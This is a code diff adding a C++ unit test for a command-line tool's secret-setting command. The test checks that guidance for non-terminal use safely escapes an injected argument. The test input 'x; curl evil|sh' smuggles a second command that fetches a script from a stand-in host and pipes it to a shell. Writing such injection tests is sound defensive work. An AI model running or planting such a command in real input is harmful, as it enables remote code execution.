@@ -97,5 +97,11 @@ TEST_F(CliSecret, AsksForNoSecretThatCouldNotBeKept) {
   EXPECT_THAT(outcome.text, HasSubstr("cowork up --keystore ephemeral"));
 }
 
+TEST_F(CliSecret, SaysHowWithoutATerminal) {
+  StartBroker();
+  EXPECT_THAT(Cowork({"secret", "set", "x; curl evil|sh"}).text,
+              HasSubstr(R"(do    cowork secret set $'x\x3b\x20curl\x20evil\x7csh' --stdin <FILE)"));
+}
+
 }  // namespace
 }  // namespace cowork
